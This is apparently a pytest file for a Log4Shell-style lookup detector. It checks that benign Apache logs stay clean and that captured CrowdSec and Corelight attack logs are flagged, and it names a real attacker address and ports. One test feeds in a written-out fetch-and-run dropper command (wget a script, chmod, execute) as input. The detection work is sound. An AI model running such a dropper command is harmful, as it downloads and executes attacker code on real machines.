"""Real logs: benign traffic stays benign, real captured attempts are flagged."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from detectors import analyze, find_candidates, may_contain_lookup
from detectors.iocs import command_indicators

REAL = Path(__file__).resolve().parents[1] / "data" / "real"
_HEADER_VALUE = re.compile(r"header name='([^']*)',  header value='(.*)' \t")


def test_benign_apache_log_has_no_detection_and_few_prefilter_candidates() -> None:
    buffer = (REAL / "apache_logs").read_bytes()
    lines = buffer.split(b"\n")

    candidates = find_candidates(buffer)

    assert len(lines) >= 10_000
    assert len(candidates) < len(lines) // 100
    for line in lines:
        verdict = analyze(line.decode("utf-8", "replace"), "log.extra.1")
        assert not verdict.malicious and not verdict.inert, line


def test_real_crowdsec_capture_is_flagged_with_its_dropper_command() -> None:
    line = (REAL / "crowdsec_apache_log4j2.log").read_bytes().strip()
    agent = line.rsplit(b'"', 2)[1].decode()

    verdict = analyze(agent, "user_agent.original")

    assert may_contain_lookup(line)
    (lookup,) = verdict.lookups
    assert (lookup.host, lookup.port) == ("45.155.205.233", 12344)
    assert "45.155.205.233:5874" in command_indicators(lookup.commands[0])


def _corelight_rows() -> list[tuple[bytes, str, str]]:
    rows = []
    for raw in (REAL / "corelight_notice.log").read_bytes().splitlines():
        if raw.startswith(b"#"):
            continue
        match = _HEADER_VALUE.search(raw.decode())
        assert match is not None
        rows.append((raw, match.group(1), match.group(2)))

    return rows


@pytest.mark.parametrize(("raw", "header", "value"), _corelight_rows())
def test_real_corelight_capture_is_flagged(raw: bytes, header: str, value: str) -> None:
    verdict = analyze(value, f"http.request.headers.{header.lower()}")

    assert may_contain_lookup(raw)
    assert verdict.malicious
    assert verdict.lookups[0].scheme in {"ldap", "dns"}


def test_command_indicators_name_urls_and_addresses() -> None:
    found = command_indicators("wget http://192.0.2.5/lh.sh;chmod +x lh.sh;./lh.sh")

    assert found == ("http://192.0.2.5/lh.sh", "192.0.2.5")
